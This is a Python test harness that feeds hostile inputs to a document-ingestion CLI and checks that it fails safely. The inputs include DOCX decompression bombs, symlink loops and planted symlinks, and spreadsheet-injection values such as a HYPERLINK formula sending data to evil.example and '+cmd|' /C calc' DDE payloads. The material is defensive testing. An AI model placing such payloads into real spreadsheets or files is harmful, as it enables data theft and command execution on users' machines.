"""Hostile and oversized inputs against the `chithi` CLI (issue 12): every case is built here, in a temporary
folder, at run time (nothing large is kept in the repository), run in a child process bounded in time and memory,
and reported with its exit code, seconds and the child's peak resident memory.

    python bench/fault_injection.py            # the full-size bombs (e.g. a DOCX inflating to 1.5 GB)
    python bench/fault_injection.py --small    # the same cases at test size (what tests/test_hostile.py runs)
    python bench/fault_injection.py -k docx    # only cases whose name contains "docx"

Each case says what must come out: the exit code and the exact last line on stderr (None: not checked), and
optionally a check of its own (e.g. that the good documents of a batch are stored).
"""
from __future__ import annotations

import argparse
import json
import os
import resource
import signal
import sqlite3
import subprocess
import sys
import tempfile
import time
import zipfile
from dataclasses import dataclass, field
from pathlib import Path
from typing import Callable

ROOT = Path(__file__).resolve().parents[1]
SEED = ROOT / "corpus" / "000_4a226a3da77387bf.txt"
SEED2 = ROOT / "corpus" / "001_6dd6d2f37ee23f38.txt"
TIME_LIMIT = 60.0          # seconds per case
MEMORY_LIMIT = 2 * 2**30   # address space of the child (its resident peak must stay under 1 GiB)


# -- builders: small files that are hostile ------------------------------------------------------------------

_CONTENT_TYPES = (b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
                  b'<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
                  b'<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
                  b'<Default Extension="xml" ContentType="application/xml"/>'
                  b'<Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument'
                  b'.wordprocessingml.document.main+xml"/></Types>')
_RELS = (b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
         b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
         b'<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
         b'officeDocument" Target="word/document.xml"/></Relationships>')
_DOC_HEAD = (b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?><w:document xmlns:w="http://schemas.'
             b'openxmlformats.org/wordprocessingml/2006/main"><w:body>')
_DOC_TAIL = b"</w:body></w:document>"


def docx(path: Path, body_chunks) -> Path:
    """A DOCX whose word/document.xml is _DOC_HEAD + the chunks + _DOC_TAIL, streamed (never held whole)."""
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as z:
        z.writestr("[Content_Types].xml", _CONTENT_TYPES)
        z.writestr("_rels/.rels", _RELS)
        with z.open("word/document.xml", "w", force_zip64=True) as f:
            f.write(_DOC_HEAD)
            for chunk in body_chunks:
                f.write(chunk)
            f.write(_DOC_TAIL)
    return path


def _bomb_mb(mb: int) -> int:
    """The size in MB (10^6 bytes) of the document part of :func:`docx_bomb`."""
    return round((len(_DOC_HEAD) + len(_DOC_TAIL) + 34 + mb * 2**20) / 1e6)


def docx_bomb(path: Path, mb: int) -> Path:
    """word/document.xml inflating to ``mb`` MB of spaces inside one paragraph."""
    block = b" " * 2**20
    return docx(path, [b"<w:p><w:r><w:t>"] + [block] * mb + [b"</w:t></w:r></w:p>"])


def docx_many_paragraphs(path: Path, mb: int) -> Path:
    """A legitimate-looking DOCX of ``mb`` MB of short paragraphs: costly to parse into a tree."""
    para = b"<w:p><w:r><w:t>Giao S\xe1\xbb\x9f Y t\xe1\xba\xbf ch\xe1\xbb\xa7 tr\xc3\xac</w:t></w:r></w:p>"
    n = mb * 2**20 // len(para)
    chunk = para * 1000
    return docx(path, [chunk] * (n // 1000))


def pdf(path: Path, pages: list[tuple[float, float, bytes]]) -> Path:
    """A PDF of pages (width pt, height pt, content stream), written by hand."""
    objs: list[bytes] = []
    kids = []
    for w, h, content in pages:
        c = len(objs) + 3
        objs.append(b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 %g %g] /Contents %d 0 R /Resources << >> >>"
                    % (w, h, c + 1))
        objs.append(b"<< /Length %d >>\nstream\n" % len(content) + content + b"\nendstream")
        kids.append(b"%d 0 R" % c)
    head = [b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [" + b" ".join(kids) + b"] /Count %d >>" % len(pages)]
    out = bytearray(b"%PDF-1.4\n")
    offsets = []
    for i, body in enumerate(head + objs, 1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % i + body + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(offsets) + 1)
    out += b"".join(b"%010d 00000 n \n" % o for o in offsets)
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(offsets) + 1, xref)
    path.write_bytes(bytes(out))
    return path


def _boxes(w: float, h: float) -> bytes:
    """Some ink (black bars like lines of text) on a page, no text layer: the page must be rendered and OCR'd."""
    bars = b"".join(b"%g %g %g %g re f\n" % (w * 0.1, h * (0.8 - 0.02 * i), w * 0.8, h * 0.004) for i in range(10))
    return b"0 g\n" + bars


def tiff_big_second_frame(path: Path, side: int) -> Path:
    from PIL import Image

    first = Image.new("1", (200, 200), 1)
    second = Image.new("1", (side, side), 1)
    first.save(path, save_all=True, append_images=[second], compression="group4")
    return path


def fifo(path: Path) -> Path:
    os.mkfifo(path)
    return path


def folder_with_loops(root: Path, bad: Callable[[Path], object] | None = None) -> Path:
    """A folder with a good document, two symlink loops (a link to its own folder's parent, and two links to each
    other's folders) and, optionally, a bad file made by ``bad``."""
    root.mkdir()
    (root / "good.txt").write_bytes(SEED.read_bytes())
    sub = root / "sub"
    sub.mkdir()
    (sub / "up").symlink_to("..")
    (root / "a").mkdir()
    (root / "b").mkdir()
    (root / "a" / "to_b").symlink_to("../b")
    (root / "b" / "to_a").symlink_to("../a")
    if bad:
        bad(root)
    return root


def ingest_db(tmp: Path, name: str = "d.db", *docs: Path) -> Path:
    """A database holding the seed documents (built in-process: no child)."""
    from pipeline.run import process
    from pipeline.store import Store

    db = tmp / name
    with Store(db) as store:
        for p in docs or (SEED, SEED2):
            doc, rec = process(p)
            store.put(rec, doc.text)
    return db


def damage_db(db: Path, first: float = 0.0) -> Path:
    """Overwrite with garbage the pages from ``first`` (a fraction of the file) on; page 1 (header and schema)
    stays intact: 0 damages the tables' roots (the file cannot even be opened), 0.5 only data pages."""
    con = sqlite3.connect(db)
    con.execute("PRAGMA wal_checkpoint(TRUNCATE)")
    page = con.execute("PRAGMA page_size").fetchone()[0]
    con.close()
    data = bytearray(db.read_bytes())
    start = max(1, int(len(data) * first) // page)
    for off in range(start * page, len(data), page):
        data[off + 8: off + page] = bytes([0xA5]) * (page - 8)
    db.write_bytes(bytes(data))
    return db


def text_file(path: Path, chars: int) -> Path:
    """A directive padded with annexes to ``chars`` characters."""
    seed = SEED.read_text(encoding="utf-8")
    annex = "\n\nPhụ lục. Danh mục các nhiệm vụ được giao cho các sở, ban, ngành thực hiện trong năm.\n"
    text = seed + annex * ((chars - len(seed)) // len(annex) + 1)
    path.write_text(text[:chars], encoding="utf-8")
    return path


CONTROL_SUBJECT = "Về việc\x1b[31m tăng cường\x07 bảo hiểm \u202eyt\u202c y tế"


def with_controls(path: Path) -> Path:
    seed = SEED.read_text(encoding="utf-8")
    line = next(ln for ln in seed.splitlines() if ln.lstrip("# ").startswith("Về việc"))
    path.write_text(seed.replace(line, "### " + CONTROL_SUBJECT, 1), encoding="utf-8")
    return path


VI = "Kế hoạch thực hiện bảo hiểm y tế năm 2025 của Ủy ban nhân dân tỉnh.\n"
WESTERN = "Le comité régional a décidé que la façade du bâtiment sera rénovée avant l'été.\n"


# -- the cases -----------------------------------------------------------------------------------------------

@dataclass
class Case:
    name: str
    build: Callable[[Path, bool], list[str]]   # (temp dir, small) -> chithi arguments, run with cwd = temp dir
    code: int
    line: str | Callable[[bool], str] | None   # the exact last stderr line (None: not checked; small -> line)
    check: Callable[[Path, subprocess.CompletedProcess], None] | None = None
    limits: dict = field(default_factory=dict)  # child limits: seconds, address space, file size


def _stored(db: str, n: int):
    def check(tmp: Path, proc) -> None:
        con = sqlite3.connect(tmp / db)
        got = con.execute("SELECT count(*) FROM documents").fetchone()[0]
        con.close()
        assert got == n, f"{got} documents stored, expected {n}"
    return check


def _stdout_has(*parts: str, absent: tuple[str, ...] = ()):
    def check(tmp: Path, proc) -> None:
        for p in parts:
            assert p in proc.stdout, f"{p!r} not in stdout"
        for p in absent:
            assert p not in proc.stdout, f"{p!r} in stdout"
    return check


def _case_docx_bomb(tmp, small):
    docx_bomb(tmp / "bomb.docx", 300 if small else 1500)
    return ["extract", "bomb.docx"]


def _case_docx_oom(tmp, small):
    docx_many_paragraphs(tmp / "big.docx", 60)
    (tmp / "in").mkdir()
    os.rename(tmp / "big.docx", tmp / "in" / "big.docx")
    (tmp / "in" / "good.txt").write_bytes(SEED.read_bytes())
    return ["ingest", "in", "--db", "o.db", "--quiet", "--workers", "1", "--max-memory-mb", "400"]


def _case_pdf_page(inches):
    def build(tmp, small):
        w = 72 * inches
        pdf(tmp / f"p{inches}.pdf", [(w, w, _boxes(w, w))])
        return ["extract", f"p{inches}.pdf", "--workers", "1"]
    return build


def _case_tiff(tmp, small):
    tiff_big_second_frame(tmp / "frame2.tif", 20000)
    return ["extract", "frame2.tif"]


def _case_blank(tmp, small):
    n = 200 if small else 2000
    pdf(tmp / "blank.pdf", [(595, 842, b"")] * n + [(595, 842, _boxes(595, 842))])
    return ["extract", "blank.pdf", "--max-pages", str(n + 1), "--workers", "2"]


def _case_pages(tmp, small):
    pdf(tmp / "pages.pdf", [(595, 842, b"")] * 1001)
    return ["extract", "pages.pdf"]


def _case_long_text(tmp, small):
    text_file(tmp / "long.txt", 1_300_000)
    return ["ingest", "long.txt", "--db", "l.db", "--quiet"]


def _case_too_long(tmp, small):
    text_file(tmp / "huge.txt", 2_100_000)
    return ["extract", "huge.txt"]


def _case_fifo_cli(tmp, small):
    fifo(tmp / "x.txt")
    return ["extract", "x.txt"]


def _case_fifo_batch(tmp, small):
    folder_with_loops(tmp / "in", bad=lambda root: fifo(root / "x.txt"))
    return ["ingest", "in", "--db", "f.db", "--quiet"]


def _case_loops(tmp, small):
    folder_with_loops(tmp / "in")
    return ["ingest", "in", "--db", "s.db", "--quiet"]


def _damaged(command: list[str], first: float = 0.5):
    def build(tmp, small):
        damage_db(ingest_db(tmp), first)
        (tmp / "good.txt").write_bytes(SEED.read_bytes())
        return command + ["--db", "d.db"]
    return build


def _case_query(tmp, small):
    ingest_db(tmp)
    return ["search", ("bao hiem " * 12_000)[:100_000], "--db", "d.db"]


def _case_terms(tmp, small):
    ingest_db(tmp)
    return ["search", " ".join(f"w{i}" for i in range(65)), "--db", "d.db"]


def _out_missing(command: list[str]):
    def build(tmp, small):
        ingest_db(tmp)
        return command
    return build


def _case_disk_full(tmp, small):
    (tmp / "in").mkdir()
    (tmp / "in" / "good.txt").write_bytes(SEED.read_bytes())
    return ["ingest", "in", "--db", "full.db", "--quiet"]


def _case_controls(tmp, small):
    with_controls(tmp / "ctl.txt")
    ingest_db(tmp, "c.db", tmp / "ctl.txt")
    return ["search", "tăng cường", "--db", "c.db"]


def _case_old_store(tmp, small):
    """A store whose text holds control characters (as one written before they were dropped at ingestion)."""
    db = ingest_db(tmp, "o.db", SEED)
    con = sqlite3.connect(db)
    from pipeline.core.textutil import fold

    with con:
        (rowid,) = con.execute("SELECT id FROM search_items WHERE field = 'subject'").fetchone()
        con.execute("UPDATE search_items SET text = ? WHERE id = ?", (CONTROL_SUBJECT, rowid))
        con.execute("UPDATE search_fts SET body = ? WHERE rowid = ?", (fold(CONTROL_SUBJECT), rowid))
    con.close()
    return ["search", "tăng cường", "--db", "o.db", "--type", "document"]


def _record_clean(db: str):
    def check(tmp: Path, proc) -> None:
        con = sqlite3.connect(tmp / db)
        rec, text = con.execute("SELECT record, t.text FROM documents JOIN texts t USING (doc_id)").fetchone()
        con.close()
        for c in _RAW:
            assert c not in rec and c not in text and json.dumps(c)[1:-1] not in rec, f"{c!r} stored"
    return check


_RAW = ("\x1b", "\x07", "\u202e", "\u202c")


def _case_utf16(tmp, small):
    (tmp / "le.txt").write_bytes(VI.encode("utf-16-le") * 3)
    (tmp / "be.txt").write_bytes(VI.encode("utf-16-be") * 3)
    return ["text", "le.txt", "be.txt", "--workers", "1"]


def _case_latin1(tmp, small):
    (tmp / "fr.txt").write_bytes(WESTERN.encode("latin-1") * 3)
    return ["text", "fr.txt"]


def _case_timeout(tmp, small):
    (tmp / "in").mkdir()
    (tmp / "in" / "good.txt").write_bytes(SEED.read_bytes())
    w = 595
    pdf(tmp / "in" / "scan.pdf", [(w, 842, _boxes(w, 842))] * 20)  # 20 pages to OCR: more than 5 s
    return ["ingest", "in", "--db", "t.db", "--quiet", "--workers", "1", "--doc-timeout", "5"]


def _downscaled_noted(proc) -> None:
    rec = json.loads(proc.stdout)
    assert [w["message"] for w in rec["warnings"] if w["code"] == "page_downscaled"] == [
        "page(s) 1 are larger than the 40 megapixel limit: OCR'd at a lower resolution (raise the limit with "
        "--max-megapixels)"], rec["warnings"]


def _blank_noted(proc, n: int) -> None:
    rec = json.loads(proc.stdout)
    blank = [w for w in rec["warnings"] if w["code"] == "blank_page"]
    assert blank and blank[0]["message"].startswith("page(s) 1, 2, 3,") and f"and {n - 20} more are blank" in \
        blank[0]["message"], f"no blank_page warning for {n} pages: {rec['warnings']}"


def _lines(*lines: str) -> Callable:
    def check(tmp: Path, proc) -> None:
        err = proc.stderr.splitlines()
        for ln in lines:
            assert ln in err, f"{ln!r} not in stderr {err}"
    return check


def _all(*checks):
    def check(tmp, proc):
        for c in checks:
            c(tmp, proc)
    return check


# -- issue 21: reviewers' decisions ---------------------------------------------------------------------------

DOC1 = "bac282dc27c08b5d"  # SEED's doc id


def decisions_file(path: Path, decisions: list[dict], doc_id: str = DOC1, reviewer: str = "Lan") -> Path:
    path.write_text(json.dumps({"chithi_review": 1, "doc_id": doc_id, "reviewer": reviewer, "decisions": decisions},
                               ensure_ascii=False), encoding="utf-8")
    return path


def _case_decisions(*files: list[dict]):
    """A store of the seeds, and one decisions file per list (a.json, b.json, …), applied in that order."""
    def build(tmp, small):
        ingest_db(tmp)
        names = []
        for i, decisions in enumerate(files):
            names.append(decisions_file(tmp / f"{'abc'[i]}.json", decisions).name)
        return ["review", "--apply", *names, "--db", "d.db"]
    return build


def _reviews(db: str, expect: dict[str, tuple] | None, history: int | None = None):
    """The decisions in force on DOC1 are ``expect`` ({item: (decision, value, note)}; None: none stored at
    all), and the history holds ``history`` rows."""
    def check(tmp: Path, proc) -> None:
        con = sqlite3.connect(tmp / db)
        rows = {r[0]: r[1:] for r in con.execute("SELECT item, decision, value, note FROM reviews WHERE doc_id = ?",
                                                  (DOC1,))}
        hist = con.execute("SELECT count(*) FROM review_log").fetchone()[0]
        status = con.execute("SELECT review_status FROM documents WHERE doc_id = ?", (DOC1,)).fetchone()[0]
        con.close()
        assert rows == (expect or {}), f"stored decisions {rows}, expected {expect}"
        if expect is None:
            assert hist == 0 and status == "unreviewed", f"{hist} history rows, status {status}"
        if history is not None:
            assert hist == history, f"{hist} history rows, expected {history}"
    return check


def _big_note_file(tmp, small):
    ingest_db(tmp)
    note = "ghi chu " * ((9 if small else 100) * 2**20 // 8)
    decisions_file(tmp / "a.json", [{"item": "t1", "decision": "accept", "note": note}])
    return ["review", "--apply", "a.json", "--db", "d.db"]


def _case_undecodable_names(tmp, small):
    """A folder whose file names are not UTF-8 (Latin-1 and cp1258 names copied from old disks): a good one and a
    damaged .docx; ``os.fsencode`` keeps the bytes."""
    (tmp / "in").mkdir()
    Path(os.fsdecode(os.fsencode(str(tmp / "in")) + b"/ch\xe9 th\xfe.txt")).write_bytes(SEED.read_bytes())
    Path(os.fsdecode(os.fsencode(str(tmp / "in")) + b"/h\xf4ng\x1b.docx")).write_bytes(b"PK\x03\x04 not a zip")
    return ["ingest", "in", "--db", "n.db", "--quiet"]


def _stored_paths(db: str, *ends: str):
    def check(tmp: Path, proc) -> None:
        con = sqlite3.connect(tmp / db)
        paths = [r[0] for r in con.execute("SELECT path FROM documents UNION ALL SELECT path FROM failures")]
        con.close()
        for e in ends:
            assert any(p.endswith(e) for p in paths), f"no stored path ending {e!r} in {paths}"
    return check


def deep_html(path: Path, levels: int, tag: str = "font") -> Path:
    """The seed as an HTML page whose paragraphs sit under ``levels`` unclosed ``<tag>`` elements (saved portal
    pages nest <font> so)."""
    paras = "".join(f"<p>{ln}</p>" for ln in SEED.read_text(encoding="utf-8").splitlines() if ln.strip())
    path.write_text(f"<html><body>{f'<{tag}>' * levels}{paras}</body></html>", encoding="utf-8")
    return path


def _record_has(number: str, targets: int, absent_warning: str):
    def check(tmp: Path, proc) -> None:
        rec = json.loads(proc.stdout)
        got = ((rec["metadata"].get("number") or {}).get("value"), len(rec["targets"]))
        assert got == (number, targets), f"number and targets {got}, expected {(number, targets)}"
        assert absent_warning not in [w["code"] for w in rec["warnings"]], rec["warnings"]
    return check


_LISTENERS: dict[str, object] = {}   # sockets and servers the Dask cases leave listening on 127.0.0.1


def _listener(kind: str) -> int:
    """A port on 127.0.0.1 where something that is not a Dask scheduler listens: 'silent' accepts connections
    and never answers, 'http' is an HTTP server."""
    import http.server
    import socket
    import threading

    old = _LISTENERS.pop(kind, None)
    if old is not None:
        (old.shutdown() or old.server_close()) if kind == "http" else old.close()
    if kind == "http":
        class Quiet(http.server.BaseHTTPRequestHandler):
            def log_message(self, *a):
                pass

        srv = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Quiet)
        threading.Thread(target=srv.serve_forever, daemon=True).start()
        _LISTENERS[kind] = srv
        return srv.server_address[1]
    sock = socket.socket()
    sock.bind(("127.0.0.1", 0))
    sock.listen(16)
    _LISTENERS[kind] = sock
    return sock.getsockname()[1]


def _case_scheduler(kind: str, scheme: str = "tcp"):
    def build(tmp, small):
        (tmp / "in").mkdir()
        (tmp / "in" / "good.txt").write_bytes(SEED.read_bytes())
        port = _listener(kind) if kind else 9
        _LISTENERS["address"] = address = f"{scheme}://127.0.0.1:{port}"
        return ["ingest", "in", "--db", "k.db", "--quiet", "--scheduler", address, "--connect-timeout", "3"]
    return build


def _no_scheduler(what: str, hint: str = "is `dask scheduler` running there and its port open?"):
    return lambda small: f"chithi: error: {what.format(_LISTENERS['address'])} ({hint})"


def _case_many_workers(*flags: str):
    def build(tmp, small):
        (tmp / "in").mkdir()
        for i in range(10):  # ten files, each its own document
            (tmp / "in" / f"d{i}.txt").write_text(SEED.read_text(encoding="utf-8") + f"\n{i}\n", encoding="utf-8")
        return ["ingest", "in", "--db", "w.db", "--quiet", *flags]
    return build


def _line_starts(prefix: str):
    def check(tmp: Path, proc) -> None:
        assert any(ln.startswith(prefix) for ln in proc.stderr.splitlines()), f"no line {prefix!r}… in stderr"
    return check


def _case_locked(release_after: float | None):
    """A database another program is writing to (a write transaction held open here), released after
    ``release_after`` seconds (None: never, during the run)."""
    def build(tmp, small):
        import threading

        ingest_db(tmp, "d.db", SEED)
        (tmp / "in").mkdir()
        (tmp / "in" / "two.txt").write_bytes(SEED2.read_bytes())
        con = sqlite3.connect(tmp / "d.db", isolation_level=None, check_same_thread=False)
        con.execute("BEGIN IMMEDIATE")
        _LISTENERS["lock"] = con
        if release_after is not None:
            threading.Timer(release_after, lambda: con.execute("ROLLBACK")).start()
        return ["ingest", "in", "--db", "d.db", "--quiet", "--busy-timeout", "2" if release_after is None else "30"]
    return build


_WAITING = "chithi: waiting for d.db: another program is writing to it (up to {} s, --busy-timeout)"


FONT = "/usr/share/fonts/truetype/dejavu/DejaVuSerif.ttf"
SCAN_LEFT = ["ỦY BAN NHÂN DÂN", "TỈNH KHÁNH HÒA", "Số: 17/CT-UBND"]
SCAN_RIGHT = ["CỘNG HÒA XÃ HỘI CHỦ NGHĨA VIỆT NAM", "Độc lập - Tự do - Hạnh phúc",
              "Khánh Hòa, ngày 19 tháng 3 năm 2024"]


def scan_header(paper: int = 235, ink: int = 25):
    """The header block of a directive as an 8-bit grayscale scan (number 17/CT-UBND, 19 March 2024)."""
    from PIL import Image, ImageDraw, ImageFont

    im = Image.new("L", (2480, 900), paper)
    d = ImageDraw.Draw(im)
    f = ImageFont.truetype(FONT, 44)
    for x, lines in ((650, SCAN_LEFT), (1700, SCAN_RIGHT)):
        for i, s in enumerate(lines):
            d.text((x - d.textlength(s, font=f) / 2, 150 + 70 * i), s, font=f, fill=ink)
    d.text((1240 - d.textlength("CHỈ THỊ", font=f) / 2, 500), "CHỈ THỊ", font=f, fill=ink)
    d.text((230, 650), "Yêu cầu các sở, ban, ngành hoàn thành việc rà soát trước ngày 30 tháng 6 năm 2024.",
           font=f, fill=ink)
    return im


def scan_in_mode(path: Path, mode: str) -> Path:
    """:func:`scan_header` saved in an image ``mode``: 'I;16' (16-bit grayscale PNG, paper at 60,395 of 65,535),
    'RGBA' (black text on a transparent background), 'CMYK' (TIFF), '1' (1-bit TIFF), 'P' (palette PNG)."""
    import numpy as np
    from PIL import Image

    im = scan_header()
    if mode == "I;16":
        Image.fromarray(np.asarray(im).astype(np.uint16) * 257).save(path)
    elif mode == "RGBA":
        alpha = Image.eval(im, lambda v: 255 - v)  # ink opaque, paper transparent (colour black)
        Image.merge("RGBA", (*[Image.new("L", im.size, 0)] * 3, alpha)).save(path)
    else:
        im.convert(mode).save(path)
    return path


def _case_scan_mode(mode: str, suffix: str):
    def build(tmp, small):
        return ["extract", scan_in_mode(tmp / f"scan{suffix}", mode).name, "--workers", "1"]
    return build


def _number_and_date(number: str, date: str):
    def check(tmp: Path, proc) -> None:
        md = json.loads(proc.stdout)["metadata"]
        got = ((md.get("number") or {}).get("value"), (md.get("issued_date") or {}).get("value"))
        assert got == (number, date), f"number and date {got}, expected {(number, date)}"
    return check


FORMULA = '=HYPERLINK("http://evil.example/?d="&B2,"Chỉ thị 01")'
HOSTILE_VALUES = {"subject": FORMULA, "issuer": "+cmd|' /C calc'!A0", "signer": "@SUM(1+1)*cmd|' /C calc'!A0",
                  "metric": "tỷ lệ\fhộ\x1b[31m nghèo\x07 -2+3", "note": "\tghi chú\x85\u202e"}


def hostile_store(tmp: Path) -> Path:
    """A store of the seeds whose first record holds values a spreadsheet would run (=, +, @ …) and control
    characters (a page break, ESC, BEL, NEL, a bidi override) — as a hostile document or reviewer could put there."""
    db = ingest_db(tmp)
    con = sqlite3.connect(db)
    rec = json.loads(con.execute("SELECT record FROM documents WHERE doc_id = ?", (DOC1,)).fetchone()[0])
    rec["metadata"]["subject"]["value"] = HOSTILE_VALUES["subject"]
    rec["metadata"]["issuer"]["value"] = HOSTILE_VALUES["issuer"]
    rec["metadata"]["signer"]["name"] = HOSTILE_VALUES["signer"]
    rec["targets"][0]["metric"] = HOSTILE_VALUES["metric"]
    rec["review"] = {"status": "in_review", "decided": 1, "total": 20, "decisions": [
        {"item": rec["targets"][0]["id"], "decision": "accept", "value": None, "original": None,
         "note": HOSTILE_VALUES["note"], "reviewer": "=1+1", "decided_at": "2026-11-30T08:00:00+00:00"}]}
    with con:
        con.execute("UPDATE documents SET record = ?, subject = ? WHERE doc_id = ?",
                    (json.dumps(rec, ensure_ascii=False), HOSTILE_VALUES["subject"], DOC1))
    con.close()
    return db


def _case_export(fmt: str):
    def build(tmp, small):
        hostile_store(tmp)
        return ["export", "--format", fmt, "--db", "d.db", "--out", f"e.{fmt}"]
    return build


_CONTROL_RE = "[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]"


def _csv_safe(tmp: Path, proc) -> None:
    import csv
    import io
    import re

    text = (tmp / "e.csv").read_text(encoding="utf-8-sig")
    cells = [c for row in csv.reader(io.StringIO(text)) for c in row]
    assert "'" + FORMULA in cells, "the formula subject is not written as quoted text"
    assert "'+cmd|' /C calc'!A0" in cells and "'=1+1" in cells
    assert any(c.startswith("tỷ lệ\nhộ[31m nghèo -2+3") for c in cells), "the page break and ESC not cleaned"
    assert "'\tghi chú" in cells
    live = [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert not live, f"cells a spreadsheet evaluates: {live[:3]}"
    assert not re.search(_CONTROL_RE, text), "control characters in the CSV"


def _xlsx_safe(tmp: Path, proc) -> None:
    import re
    import zipfile as zf

    from openpyxl import load_workbook

    assert (tmp / "e.xlsx").is_file(), "no workbook written"
    wb = load_workbook(tmp / "e.xlsx")
    cells = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row if c.value is not None]
    assert not [c for c in cells if c.data_type == "f"], "formula cells in the workbook"
    values = {c.value for c in cells}
    assert {FORMULA, HOSTILE_VALUES["issuer"], "\tghi chú"} <= values, "values missing"
    unmarked = [c.value for c in cells if isinstance(c.value, str) and c.value.startswith(("=", "+", "-", "@", "\t"))
                and not c.quotePrefix]
    assert not unmarked, f"text cells a spreadsheet would evaluate once edited: {unmarked[:3]}"
    with zf.ZipFile(tmp / "e.xlsx") as z:
        xml = "".join(z.read(n).decode("utf-8") for n in z.namelist() if n.startswith("xl/worksheets/"))
    assert "<f>" not in xml and not re.search(_CONTROL_RE, xml), "a formula or control character in the sheets"


_PREVIOUS = "doc_id,previous export\n" * 50
_FULL_LIMITS: dict = {}   # the child's limits of the disk-full case: a file-size limit when no tmpfs can be mounted


def _case_export_disk_full(tmp, small):
    """The export goes to a nearly full 256 KiB tmpfs (root: mounted here), else to a child whose files cannot grow
    past 33 KiB (RLIMIT_FSIZE: EFBIG), over a previous, good export."""
    hostile_store(tmp)
    full = tmp / "full"
    full.mkdir()
    _FULL_LIMITS.clear()
    if subprocess.run(["mount", "-t", "tmpfs", "-o", "size=256k", "tmpfs", str(full)], capture_output=True
                      ).returncode == 0:
        _LISTENERS["mounted"] = full
        (full / "e.csv").write_text(_PREVIOUS, encoding="utf-8")
        with open(full / "filler", "wb") as f:  # leave ~12 KiB
            try:
                f.write(b"\0" * (256 - 12) * 1024)
            except OSError:
                pass
        _LISTENERS["errno"] = "No space left on device"
    else:
        (full / "e.csv").write_text(_PREVIOUS, encoding="utf-8")
        _FULL_LIMITS["fsize"] = 33 * 1024  # over SQLite's 32 KiB -shm file, under the 37 KB export
        _LISTENERS["errno"] = "File too large"
    return ["export", "--format", "csv", "--db", "d.db", "--out", "full/e.csv"]


def _previous_kept(tmp: Path, proc) -> None:
    try:
        assert (tmp / "full" / "e.csv").read_text(encoding="utf-8") == _PREVIOUS, "the previous export was changed"
        left = sorted(p.name for p in (tmp / "full").iterdir() if p.name not in ("e.csv", "filler"))
        assert not left, f"left behind: {left}"
    finally:
        unmount()


def unmount() -> None:
    """Unmount the tmpfs of the disk-full case, if it is mounted (after its check, or when the run failed)."""
    full = _LISTENERS.pop("mounted", None)
    if full is not None:
        subprocess.run(["umount", str(full)], capture_output=True)


def _planted(tmp: Path, *links: str) -> None:
    """A file the user cares about, and links to it where chithi writes: at the target itself, or at the
    predictable temporary name the old writers used (out.xlsx.tmp, r.html.tmp)."""
    (tmp / "victim.txt").write_text("keep me\n", encoding="utf-8")
    for name in links:
        (tmp / name).symlink_to(tmp / "victim.txt")


def _case_planted(command: list[str], *links: str):
    def build(tmp, small):
        hostile_store(tmp)
        _planted(tmp, *links)
        return command
    return build


def _links_harmless(*outputs: str):
    def check(tmp: Path, proc) -> None:
        assert (tmp / "victim.txt").read_text(encoding="utf-8") == "keep me\n", "a link's target was overwritten"
        for name in outputs:
            assert (tmp / name).is_file() and not (tmp / name).is_symlink(), f"{name} is not the new file"
        left = [p.name for p in tmp.iterdir() if p.name.startswith(".") and p.name.endswith(".tmp")]
        assert not left, f"temporary files left: {left}"
    return check


def seed_docx(path: Path) -> Path:
    """The seed directive as a .docx, one paragraph a line."""
    from xml.sax.saxutils import escape

    lines = [ln.lstrip("# ") for ln in SEED.read_text(encoding="utf-8").splitlines() if ln.strip()]
    return docx(path, [f"<w:p><w:r><w:t>{escape(ln)}</w:t></w:r></w:p>".encode("utf-8") for ln in lines])


def soffice_convert(src: Path, to: str, dest: Path) -> Path:
    """``src`` converted by LibreOffice to format ``to`` (doc, pdf), saved as ``dest`` (whatever its name says)."""
    from pipeline.tools.soffice import convert

    dest.write_bytes(convert(src.read_bytes(), src.name, to=to))
    return dest


def _case_misnamed(kind: str):
    """The seed in one format under a name that says another."""
    def build(tmp, small):
        src = seed_docx(tmp / "seed.docx")
        if kind == "doc_named_docx":
            out = soffice_convert(src, "doc:MS Word 97", tmp / "chi-thi.docx")
        elif kind == "pdf_named_txt":
            out = soffice_convert(src, "pdf", tmp / "chi-thi.txt")
        elif kind == "docx_named_doc":
            out = src.rename(tmp / "chi-thi.doc")
        elif kind == "html_named_txt":
            paras = "".join(f"<p>{ln}</p>" for ln in SEED.read_text(encoding="utf-8").splitlines() if ln.strip())
            out = tmp / "chi-thi.txt"
            out.write_text(f"<!DOCTYPE html><html><body>{paras}</body></html>", encoding="utf-8")
        else:  # pdf without a suffix
            out = soffice_convert(src, "pdf", tmp / "chi-thi")
        return ["extract", out.name]
    return build


def _read_as(media_type: str, named: str, kind: str, suffix: str):
    def check(tmp: Path, proc) -> None:
        rec = json.loads(proc.stdout)
        got = ((rec["metadata"].get("number") or {}).get("value"), rec["source"]["media_type"])
        assert got == ("01/CT-UBND", media_type), f"number and media type {got}"
        notes = [w["message"] for w in rec["warnings"] if w["code"] == "misnamed_file"]
        assert notes == [f"the file is {kind}, not what its name says ('{named}'): read as {kind} (rename it to "
                         f"{suffix})"], rec["warnings"]
    return check


_DEC = "chithi: error: a.json: decision 1 "
_T0, _T1 = "2026-11-30T08:00:00Z", "2026-11-30T09:00:00+07:00"  # _T1 is 02:00 UTC: the earlier one


_DAMAGED = ("chithi: error: d.db: database error: database disk image is malformed (the file is damaged: check it "
            "with `sqlite3 d.db 'PRAGMA integrity_check'`, or restore a backup)")
